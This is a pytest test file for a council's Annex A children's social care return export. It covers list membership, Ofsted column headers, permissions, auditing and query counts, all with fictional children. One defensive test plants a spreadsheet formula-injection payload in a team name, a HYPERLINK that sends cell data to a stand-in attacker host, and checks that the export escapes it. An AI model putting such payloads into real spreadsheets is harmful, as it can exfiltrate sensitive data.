"""Annex A's lists for a small council built by hand (`annexa_builder`): which child is on
which list and why, and which is not; the columns exactly as Ofsted lays them out; cells a
spreadsheet never runs; a fixed number of queries whatever the council's size; and who may
produce the workbook, with its audit row."""

import io
from datetime import date
from typing import Any

import pytest
from conftest import make_person
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from safehub.audit.models import AuditAction, AuditEvent
from safehub.core.exceptions import PermissionDeniedError
from safehub.people.models import Person
from safehub.returns.annexa.export import Period, annex_a, months_before, sheet_rows
from safehub.returns.annexa.spec import LISTS, list_numbered
from safehub.returns.selectors import annex_a_write
from safehub.returns.tests import annexa_builder as b
from safehub.returns.tests.annexa_builder import END

pytestmark = pytest.mark.django_db
D = date


def _rows(made: Any, number: int) -> list[dict[str, Any]]:
    headers = list_numbered(number).headers
    return [dict(zip(headers, values, strict=True)) for values in sheet_rows(made, number)]


def _ids(made: Any, number: int) -> list[int]:
    return [r["child"] for r in made.rows[number]]


@pytest.fixture
def annexa(users: dict[str, Any]) -> dict[str, Person]:
    by, sw = users["team_manager"], users["social_worker"]
    kids = {
        name: make_person(name.title(), "Annex", D(2015, 4, 3))
        for name in ("contacted", "referred", "protected", "ended", "cared", "left", "helped")
    }
    kids["referred"].is_restricted = True  # the return names restricted children too
    kids["referred"].save()
    # List 1: one contact in the six months; one before them and one after the last day.
    b.contact(kids["contacted"], D(2026, 6, 10), source="6")
    b.contact(kids["contacted"], D(2026, 4, 30))
    b.contact(kids["contacted"], D(2026, 11, 1))
    # List 2: early help in the period.
    b.episode(
        kids["helped"],
        by,
        D(2026, 6, 1),
        kind="early_help",
        closure_date=D(2026, 9, 1),
        closure_reason="met",
    )
    # Lists 3, 4, 6: a referral in the period (and one in the year before it, NFA).
    b.episode(
        kids["referred"],
        by,
        D(2026, 1, 10),
        referral_source="1A",
        closure_date=D(2026, 2, 1),
        closure_reason="RC8",
        referral_nfa=True,
    )
    referred = b.episode(kids["referred"], by, D(2026, 7, 1), referral_source="2A")
    b.assessment(
        referred, D(2026, 7, 2), child_seen_date=D(2026, 7, 5), authorised_date=D(2026, 8, 1)
    )
    b.allocation(kids["referred"], sw, D(2026, 7, 1))
    # Lists 5 and 7: an enquiry leading to a conference and a plan; a plan ended before.
    cp = b.episode(kids["protected"], by, D(2026, 5, 10))
    s47 = b.enquiry(cp, by, D(2026, 5, 12), end_date=D(2026, 5, 20), outcome="icpc")
    plan = b.cp_plan(cp, D(2026, 5, 26), latest_category="EMO", previous_plans=1)
    b.conference(cp, by, "initial", D(2026, 5, 26), section47=s47, outcome="plan", plan=plan)
    b.conference(cp, by, "review", D(2026, 8, 20), outcome="continue", plan=plan)
    b.visit(cp, by, "cp", D(2026, 10, 20), alone=True)
    b.visit(cp, by, "cp", D(2026, 11, 3))  # after the last day
    old = b.episode(
        kids["ended"], by, D(2025, 6, 1), closure_date=D(2026, 4, 1), closure_reason="RC7"
    )
    b.cp_plan(old, D(2025, 6, 20), end_date=D(2026, 3, 31))
    # List 8: in care (a legal status change, then a move); another left before the period.
    period = b.care(
        kids["cared"],
        by,
        [
            (D(2026, 2, 1), "S", "V2", "U6"),
            (D(2026, 4, 1), "L", "C1", "U6"),
            (D(2026, 6, 1), "P", "C1", "U4"),
        ],
    )
    b.missing(kids["cared"], by, "A", D(2026, 8, 1))
    b.missing(
        kids["cared"],
        by,
        "M",
        D(2026, 9, 1),
        return_interview_offered=True,
        return_interview_accepted=False,
    )
    b.review(period, by, D(2026, 9, 15))
    b.health(period, by, "review", D(2026, 3, 1))
    b.health(period, by, "dental", D(2026, 4, 1))
    b.visit(period.episode, by, "cla", D(2026, 10, 10))
    b.care(kids["left"], by, [(D(2025, 1, 1), "S", "C2", "U6")], ended=D(2026, 3, 1), reason="E4A")
    return kids


def test_each_child_is_on_the_lists_their_records_put_them_on(annexa, users):
    made = annex_a(Person.objects.all(), END, adoption=True)
    k = {name: p.pk for name, p in annexa.items()}
    assert _ids(made, 1) == [k["contacted"]]  # not April's contact, nor November's
    (contacted,) = _rows(made, 1)
    assert (contacted["Date of Contact"], contacted["Contact Source"]) == (D(2026, 6, 10), "6")
    (helped,) = _rows(made, 2)
    assert helped["Child Unique ID"] == k["helped"]
    assert helped["Assessment completion date"] == D(2026, 9, 1)
    assert helped["Organisation completing assessment"] == "Testshire County Council"
    # List 3: the referral in the period (January's is outside the six months ...), and
    # the child protection referral in May.
    assert _ids(made, 3) == [k["referred"], k["protected"]]
    referral = _rows(made, 3)[0]
    assert referral["Date of referral"] == D(2026, 7, 1)
    assert referral["Referral NFA?"] == "No"
    assert referral["Number of Referrals in Last 12 Months"] == 2  # ... but within twelve
    assert (referral["Allocated Team"], referral["Allocated Worker"]) == ("North", "Sw Tester")
    (assessed,) = _rows(made, 4)
    assert assessed["Child Seen During Continuous Assessment"] == "Yes"
    assert assessed["Was the child assessed as requiring LA children's social care support?"] == (
        "Yes"
    )
    (s47,) = _rows(made, 5)
    assert s47["Child Unique ID"] == k["protected"]
    assert s47["Date of Initial Child Protection Conference"] == D(2026, 5, 26)
    assert s47["Was an Initial Child Protection Conference deemed unnecessary?"] == "No"
    assert (
        s47["Did the Initial Child Protection Conference Result in a Child Protection Plan"]
        == "Yes"
    )
    assert s47["Number of Section 47 Enquiries in the last 12 months"] == 1
    # List 6: child in need episodes open in the period; not those closed before it.
    assert _ids(made, 6) == [k["referred"], k["protected"], k["cared"]]
    status = {r["Child Unique ID"]: r["Case Status"] for r in _rows(made, 6)}
    assert status == {
        k["referred"]: "Child in need",
        k["protected"]: "Child protection plan",
        k["cared"]: "Looked after",
    }
    (plan,) = _rows(made, 7)  # not the plan that ended in March
    assert plan["Child Unique ID"] == k["protected"]
    assert plan["Latest Category of Abuse"] == "EMO"
    assert plan["Date of the Last Statutory Visit"] == D(2026, 10, 20)  # not November's
    assert plan["Was the Child Seen Alone?"] == "Yes"
    assert plan["Date of latest review conference"] == D(2026, 8, 20)
    assert plan["Number of Previous Child Protection Plans"] == 1
    (cared,) = _rows(made, 8)  # not the child who left care in March
    assert cared["Child Unique ID"] == k["cared"]
    assert (cared["Child's Legal Status"], cared["Start date of current legal status"]) == (
        "C1",
        D(2026, 4, 1),
    )
    assert cared["Start Date of Most Recent Placement"] == D(2026, 6, 1)
    assert cared["Placement Type"] == "U4"
    assert cared["Number of Placements in the Last 12 months"] == 2
    assert cared["Date of Latest Statutory Review"] == D(2026, 9, 15)
    assert cared["Date of Last Social Work Visit"] == D(2026, 10, 10)
    assert cared["Date of Last Health Assessment"] == D(2026, 3, 1)
    assert cared["Date of Last Dental Check"] == D(2026, 4, 1)
    missing = (
        "Number of Episodes the Child has been 'Missing' from their Placement in the last 12 months"
    )
    absent = (
        "Number of Episodes the Child has been 'Absent' from their Placement in the last 12 months"
    )
    assert (cared[missing], cared[absent]) == (1, 1)
    assert (
        cared["Was the child offered a Return Interview after their last missing episode (Y/N)?"]
        == "Yes"
    )
    assert (
        cared["Did the child accept a Return Interview after their last missing episode (Y/N)?"]
        == "No"
    )


def test_a_care_leaver_is_on_list_9_and_not_list_6(users):
    by = users["team_manager"]
    leaver = make_person("Kai", "Leaver", D(2008, 1, 1))
    b.care(leaver, by, [(D(2022, 1, 1), "S", "C2", "U6")], ended=D(2026, 1, 1), reason="E17")
    b.episode(leaver, by, D(2026, 6, 1))
    made = annex_a(Person.objects.all(), END, adoption=False)
    (row,) = _rows(made, 9)
    assert row["Child Unique ID"] == leaver.pk
    assert row["Eligibility Category"] == "Former relevant"
    assert leaver.pk not in _ids(made, 6)


def test_adoption_lists_as_of_the_last_day(users):
    by = users["team_manager"]
    child = make_person("Ada", "Placed", D(2023, 3, 3))
    b.care(child, by, [(D(2025, 6, 1), "S", "C2", "U6"), (D(2025, 9, 1), "P", "E1", "U5")])
    couple = b.adopters(
        by, "AD001", "MF", D(2025, 3, 1), approved_on=D(2025, 10, 1), legal_status="L11"
    )
    b.adoption(
        child,
        by,
        D(2026, 1, 15),
        adopters=couple,
        matched_on=D(2026, 5, 1),
        placed_on=D(2026, 6, 1),
    )
    earlier = make_person("Old", "Adopted", D(2018, 3, 3))
    b.adoption(earlier, by, D(2023, 1, 1), order_on=D(2024, 1, 1))  # outside the 12 months
    b.adopters(by, "AD000", "F1", D(2019, 1, 1), approved_on=D(2019, 6, 1))
    made = annex_a(Person.objects.all(), END, adoption=True)
    (row,) = _rows(made, 10)
    assert row["Child Unique ID"] == child.pk
    assert row["Family identifier"] == "AD001"
    assert row["Date the Child Entered Care"] == D(2025, 6, 1)
    assert row["Date Placed for Adoption"] == D(2026, 6, 1)
    assert row[
        "Date the child was placed for fostering in FFA or concurrent planning placement"
    ] == D(2025, 9, 1)
    adopters = _rows(made, 11)  # a couple is two adopters; AD000 still waits for a child
    assert [(r["Individual adopter identifier"], r["Gender"]) for r in adopters] == [
        ("AD000-1", "Female"),
        ("AD001-1", "Male"),
        ("AD001-2", "Female"),
    ]
    assert adopters[1]["No. of children placed"] == 1
    withheld = annex_a(Person.objects.all(), END, adoption=False)
    assert (withheld.rows[10], withheld.rows[11], withheld.withheld) == ([], [], (10, 11))


def test_the_periods_reach_back_six_and_twelve_months():
    assert Period(END).six == D(2026, 5, 1)
    assert Period(END).twelve == D(2025, 11, 1)
    assert Period(D(2026, 8, 31)).six == D(2026, 3, 1)  # 28 February, then the next day
    assert months_before(D(2024, 3, 31), 1) == D(2024, 2, 29)


OFSTED_LIST_1 = [
    "Child Unique ID",
    "Gender",
    "Ethnicity",
    "Date of Birth",
    "Age of Child (Years)",
    "Date of Contact",
    "Contact Source",
]
OFSTED_LIST_7_TAIL = [
    "Child Protection Plan End Date",
    "Subject to Emergency Protection Order or Protected Under Police Powers in Last Six "
    "Months (Y/N)",
    "Number of Previous Child Protection Plans",
    "Allocated Team",
    "Allocated Worker",
]


def _workbook(actor: Any, end: date = END) -> Any:
    out = io.BytesIO()
    made = annex_a_write(actor=actor, out=out, end=end)
    out.seek(0)
    return load_workbook(out, read_only=False), made


def test_the_workbook_has_every_list_with_ofsteds_headers(annexa, users):
    book, _made = _workbook(users["performance_analyst"])
    assert book.sheetnames == [a.sheet for a in LISTS] + ["About"]
    for annex in LISTS:
        header = [c.value for c in book[annex.sheet][1]]
        assert header == annex.headers, annex.sheet
    assert [c.value for c in book["List 1"][1]] == OFSTED_LIST_1
    assert [c.value for c in book["List 7"][1]][-5:] == OFSTED_LIST_7_TAIL
    assert len(list_numbered(8).headers) == 33
    dated = book["List 1"]["F2"]
    assert dated.is_date
    assert dated.number_format == "dd/mm/yyyy"


def test_the_returns_team_gets_the_adoption_lists(users):
    """The returns team sends the 903's adoption files, so its Annex A has lists 10 and 11,
    and the export's audit row names the adopted child."""
    by = users["team_manager"]
    child = make_person("Ada", "Placed", D(2023, 3, 3))
    b.care(child, by, [(D(2025, 6, 1), "S", "C2", "U6")])
    couple = b.adopters(by, "AD001", "MF", D(2025, 3, 1), approved_on=D(2025, 10, 1))
    b.adoption(child, by, D(2026, 1, 15), adopters=couple, matched_on=D(2026, 5, 1))
    book, made = _workbook(users["performance_analyst"])
    assert made.withheld == ()
    assert [r[0] for r in book["List 10"].iter_rows(min_row=2, values_only=True)] == [str(child.pk)]
    assert book["List 11"].max_row == 3  # the header and the couple, one row each
    event = AuditEvent.objects.get(action=AuditAction.EXPORT, object_type="returns.annex_a")
    assert f",{child.pk}," in event.subject_ids


def test_cells_are_never_run_as_formulas(annexa, users):
    team = users["social_worker"].team
    team.name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    team.save()
    book, _made = _workbook(users["performance_analyst"])
    cell = book["List 3"]["J2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + team.name


def test_the_export_is_audited_naming_every_child(annexa, users):
    _book, made = _workbook(users["performance_analyst"])
    event = AuditEvent.objects.get(action=AuditAction.EXPORT, object_type="returns.annex_a")
    named = {p.pk for name, p in annexa.items() if name not in ("ended", "left")}
    assert set(made.children) == named
    assert event.subject_ids == "," + ",".join(str(i) for i in sorted(named)) + ","
    assert event.detail["rows"]["1"] == 1


@pytest.mark.parametrize("role", ["team_manager", "social_worker", "data_protection_officer"])
def test_only_the_returns_team_produces_annex_a(annexa, users, role):
    with pytest.raises(PermissionDeniedError):
        annex_a_write(actor=users[role], out=io.BytesIO(), end=END)
    assert not AuditEvent.objects.filter(object_type="returns.annex_a").exists()


def _queries(end: date) -> int:
    with CaptureQueriesContext(connection) as seen:
        annex_a(Person.objects.all(), end, adoption=True)
    return len(seen)


def test_the_number_of_queries_does_not_grow_with_the_council(annexa, users):
    before = _queries(END)
    by = users["team_manager"]
    for n in range(6):
        child = make_person(f"More{n}", "Annex", D(2014, 1, 1))
        b.contact(child, D(2026, 7, 1))
        ep = b.episode(child, by, D(2026, 7, 1))
        b.assessment(ep, D(2026, 7, 2))
        b.enquiry(ep, by, D(2026, 7, 3))
        b.cp_plan(ep, D(2026, 7, 20))
        b.care(child, by, [(D(2026, 8, 1), "S", "C1", "U6")], ep=ep)
        b.allocation(child, users["social_worker"], D(2026, 7, 1))
    assert _queries(END) == before
